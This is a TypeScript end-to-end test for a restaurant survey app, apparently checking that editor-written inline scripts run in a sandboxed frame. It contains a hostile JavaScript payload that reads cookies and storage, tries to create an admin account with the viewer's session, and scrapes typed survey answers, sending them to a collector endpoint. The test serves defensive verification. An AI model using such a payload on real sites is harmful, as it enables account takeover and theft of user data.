// An editor writes a restaurant's scripts; an admin signed in on the same browser opens that
// restaurant's dining survey and a guest's answers are typed into it. The script runs (it reports
// that it did), but in a sandboxed frame: it cannot create an account with the admin's cookie, no
// staff API answers it, and none of the typed answers reaches the address it sends to.
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { STAFF } from '../support/server.ts';
import { startE2E, type E2E } from './harness.ts';

const SECRET_ANSWER = 'my-private-comment-7731';
const EVIL = 'evil@example.com';

interface Report {
  kind: string;
  value: unknown;
}

/** Where the hostile script sends what it finds: any origin may post to it (as a tracker's host would allow). */
async function startCollector(): Promise<{ url: string; reports: Report[]; bodies: string[]; close(): Promise<void> }> {
  const reports: Report[] = [];
  const bodies: string[] = [];
  const server = http.createServer((request, response) => {
    const chunks: Buffer[] = [];
    request.on('data', (chunk: Buffer) => chunks.push(chunk));
    request.on('end', () => {
      const body = Buffer.concat(chunks).toString('utf8');
      bodies.push(`${request.url ?? ''} ${body}`);
      try {
        reports.push(JSON.parse(body) as Report);
      } catch {
        // not a report: kept in bodies only
      }
      response.writeHead(204, { 'access-control-allow-origin': '*', 'access-control-allow-headers': '*', 'access-control-allow-methods': '*' }).end();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/collect`,
    reports,
    bodies,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** What an editor might write: create an admin with the viewer's cookie, read the page's answers, send them away. */
const hostileScript = (collector: string) => `
(function () {
  var report = function (kind, value) { try { fetch(${JSON.stringify(collector)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify({ kind: kind, value: value }) }); } catch (e) {} };
  report('ran', { origin: String(self.origin) });
  try { report('cookie', document.cookie); } catch (e) { report('cookie-refused', String(e)); }
  try { report('storage', JSON.stringify(localStorage)); } catch (e) { report('storage-refused', String(e)); }
  var account = JSON.stringify({ email: ${JSON.stringify(EVIL)}, password: 'evil password 12345 long', roles: ['admin', 'compliance'] });
  var calls = [
    ['POST', '/api/users', 'application/json', account],
    ['POST', '/api/users', 'text/plain', account],
    ['POST', '/api/users', 'application/x-www-form-urlencoded', 'email=' + encodeURIComponent(${JSON.stringify(EVIL)}) + '&password=evil+password+12345+long&roles=admin'],
    ['GET', '/api/users/me', null, null],
    ['GET', '/api/users', null, null],
    ['GET', '/api/survey-customer-feedbacks', null, null]
  ];
  calls.forEach(function (call) {
    var init = { method: call[0], credentials: 'include' };
    if (call[2]) { init.headers = { 'content-type': call[2] }; init.body = call[3]; }
    fetch(call[1], init).then(function (response) { return response.text().then(function (text) { report('api', { url: call[1], status: response.status, text: text.slice(0, 300) }); }); })
      .catch(function (error) { report('api-refused', { url: call[1], error: String(error) }); });
  });
  var look = function () {
    try {
      var fields = window.parent.document.querySelectorAll('input, textarea');
      report('answers', Array.prototype.map.call(fields, function (field) { return field.value; }));
    } catch (error) { report('page-refused', String(error)); }
  };
  look();
  setInterval(look, 150);
})();
`;

interface Exchange {
  method: string;
  path: string;
  headers: http.IncomingHttpHeaders;
  status: number;
  body: string;
}

/**
 * The browser reaches our server through this recorder: every request as the browser really sent
 * it (its cookie and Origin included), and the server's real answer, even one the browser then hid
 * from the script (a cross-origin answer without CORS).
 */
async function startRecorder(target: string): Promise<{ url: string; exchanges: Exchange[]; close(): Promise<void> }> {
  const exchanges: Exchange[] = [];
  const { port } = new URL(target);
  const server = http.createServer((request, response) => {
    // Passed on as it came (its Host too), so the server answers what it would answer the browser.
    const upstream = http.request({ host: '127.0.0.1', port, method: request.method, path: request.url, headers: request.headers }, (answer) => {
      const chunks: Buffer[] = [];
      answer.on('data', (chunk: Buffer) => chunks.push(chunk));
      answer.on('end', () => {
        const body = Buffer.concat(chunks);
        const text = answer.headers['content-encoding'] ? '' : body.toString('utf8');
        exchanges.push({ method: request.method ?? 'GET', path: request.url ?? '/', headers: request.headers, status: answer.statusCode ?? 0, body: text });
        response.writeHead(answer.statusCode ?? 502, answer.headers).end(body);
      });
    });
    request.pipe(upstream);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, exchanges, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

let e2e: E2E;
let collector: Awaited<ReturnType<typeof startCollector>>;
let recorder: Awaited<ReturnType<typeof startRecorder>>;
beforeAll(async () => {
  collector = await startCollector();
  e2e = await startE2E();
  recorder = await startRecorder(e2e.server.url);
});
afterAll(async () => {
  await e2e?.close();
  await recorder?.close();
  await collector?.close();
});

describe("a restaurant's script written by an editor", () => {
  it('runs in a sandbox: no account is created with a signed-in admin’s cookie, no staff API answers it, no answer leaves the page', async () => {
    const editor = await e2e.server.staffAs(['editor']);
    const twiga = (await e2e.server.api('/api/restaurants?where[slug][equals]=twiga')).body.docs[0];
    const saved = await e2e.server.api(`/api/restaurants/${twiga.id}`, {
      method: 'PATCH',
      as: 'none',
      headers: editor,
      json: { scripts: [{ type: 'inline', content: hostileScript(collector.url) }] },
    });
    expect(saved.status).toBe(200);

    // An admin signed in on this browser (the HttpOnly session cookie), then the restaurant's survey.
    const page = await e2e.browser.newPage();
    const login = await page.context().request.post(`${recorder.url}/api/users/login`, { data: STAFF });
    expect(login.status()).toBe(200);
    expect((await page.context().cookies(recorder.url)).map((cookie) => cookie.name)).toContain('payload-token');
    await page.goto(`${recorder.url}/survey/fnb/twiga`);
    await page.waitForFunction(() => !document.querySelector('#root[data-ssr]'));
    await page.getByLabel('Your comments?').fill(SECRET_ANSWER);

    // The script ran, with an opaque origin, and was refused the page each time it looked (after the answer was typed, too).
    await expect.poll(() => collector.reports.find((report) => report.kind === 'ran')?.value).toEqual({ origin: 'null' });
    const refusalsBefore = collector.reports.filter((report) => report.kind === 'page-refused').length;
    await expect.poll(() => collector.reports.filter((report) => report.kind === 'page-refused').length).toBeGreaterThan(refusalsBefore + 2);
    expect(collector.reports.filter((report) => report.kind === 'answers')).toEqual([]);
    expect(collector.reports.map((report) => report.kind)).toEqual(expect.arrayContaining(['cookie-refused', 'storage-refused']));
    // No call's answer was readable by the script.
    await expect.poll(() => collector.reports.filter((report) => report.kind === 'api-refused').length).toBe(6);
    expect(collector.reports.filter((report) => report.kind === 'api')).toEqual([]);

    // What reached our server from the frame: no cookie, an opaque Origin, and the answers a stranger gets.
    const fromFrame = recorder.exchanges.filter((exchange) => exchange.path.startsWith('/api/') && exchange.headers['sec-fetch-site'] === 'cross-site');
    expect(fromFrame.filter((exchange) => exchange.method !== 'OPTIONS').length).toBeGreaterThanOrEqual(4);
    for (const exchange of fromFrame) {
      const what = `${exchange.method} ${exchange.path} ${exchange.status} ${exchange.body.slice(0, 200)}`;
      expect(exchange.headers.cookie, what).toBeUndefined();
      expect(exchange.headers.origin ?? 'null', what).toBe('null');
      if (exchange.path === '/api/users/me') expect(JSON.parse(exchange.body), what).toMatchObject({ user: null });
      else expect(exchange.status, what).toBeGreaterThanOrEqual(400);
    }
    // The JSON posts never left the browser (their preflight got no CORS answer); the simple ones were refused.
    expect(recorder.exchanges.filter((exchange) => exchange.method === 'POST' && exchange.path === '/api/users' && exchange.status < 400)).toEqual([]);

    const users = await e2e.server.api('/api/users?limit=100', { as: 'staff' });
    expect(users.body.docs.map((user: { email: string }) => user.email)).not.toContain(EVIL);
    expect(collector.bodies.join('\n')).not.toContain(SECRET_ANSWER);
    expect(recorder.exchanges.filter((exchange) => exchange.body.includes(SECRET_ANSWER) || exchange.path.includes(SECRET_ANSWER))).toEqual([]);
    // The admin is still signed in on that browser: the script was refused, not the session ended.
    expect((await (await page.context().request.get(`${recorder.url}/api/users/me`)).json()).user).toMatchObject({ email: STAFF.email });
    await page.close();
  });

  it('its frame, opened as a page of its own, is as confined: the sandbox is in the answer’s own policy', async () => {
    const answer = await fetch(`${e2e.server.url}/page-scripts/survey/fnb/twiga`);
    const policy = answer.headers.get('content-security-policy') ?? '';
    expect(policy).toMatch(/(^|; )sandbox allow-scripts(;|$)/);
    expect(policy).not.toContain('allow-same-origin');
    const page = await e2e.browser.newPage();
    const before = collector.reports.length;
    await page.goto(`${e2e.server.url}/page-scripts/survey/fnb/twiga`);
    await expect.poll(() => collector.reports.slice(before).find((report) => report.kind === 'ran')?.value).toEqual({ origin: 'null' });
    await page.close();
  });
});
